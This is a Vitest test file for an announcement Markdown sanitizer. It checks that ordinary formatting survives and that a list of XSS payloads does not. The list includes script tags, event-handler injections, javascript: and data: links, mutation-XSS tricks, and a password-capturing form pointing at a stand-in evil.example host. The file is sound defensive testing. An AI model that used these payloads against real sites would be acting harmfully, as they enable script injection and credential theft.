import { expect, test } from "vitest";
import { announcementHtml } from "@/lib/server/announcements/body";

test("T1 an announcement keeps its headings, lists, links, emphasis and tables", () => {
  const html = announcementHtml(
    [
      "# 办理时间",
      "周一至周五",
      "法定节假日除外",
      "",
      "- 带**身份证**",
      "- 见[12366](https://12366.chinatax.gov.cn/)",
      "",
      "| 月 | 日 |",
      "| --- | --- |",
      "| 1 | 20 |",
    ].join("\n"),
  );
  expect(html).toContain("<h2>办理时间</h2>");
  expect(html).toContain("周一至周五<br />法定节假日除外");
  expect(html).toContain("<li>带<strong>身份证</strong></li>");
  expect(html).toContain(
    '<a href="https://12366.chinatax.gov.cn/" rel="noopener noreferrer nofollow">12366</a>',
  );
  expect(html).toContain("<td>20</td>");
});

const SCRIPTS = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>">',
  "<a href=javascript:alert(1)>a</a>",
  '<a href="java&#115;cript:alert(1)">a</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">a</a>',
  "[a](javascript:alert(1))",
  "[a](<java\tscript:alert(1)>)",
  "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[a](vbscript:msgbox(1))",
  '![a](x"onerror="alert(1))',
  '<p onclick="alert(1)">a</p>',
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  "<style>body{display:none}</style>",
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  "<details open ontoggle=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="//evil.example">a</a>',
];

const TAG = /<\/?([a-z][a-z0-9]*)\b([^>]*)>/gi;
const TAGS = /^(h[234]|p|br|hr|strong|em|del|blockquote|ul|ol|li|a|table|thead|tbody|tr|th|td)$/;
const HREF =
  /^ href="(https?:|mailto:|tel:|\/(?!\/)|#)?[^":]*" rel="noopener noreferrer nofollow"$/;

test.each(SCRIPTS)("T1 a script in an announcement does not survive: %s", (payload) => {
  for (const body of [payload, `文字\n\n${payload}\n\n文字`, `- **${payload}**`, `> ${payload}`]) {
    const html = announcementHtml(body);
    for (const [, tag = "", attributes = ""] of html.matchAll(TAG)) {
      expect(tag, html).toMatch(TAGS);
      if (attributes.replace("/", "").trim() === "") continue;
      if (attributes === ' rel="noopener noreferrer nofollow"') continue;
      expect(attributes, html).toMatch(HREF);
    }
    expect(html.replace(TAG, "")).not.toContain("<");
  }
});
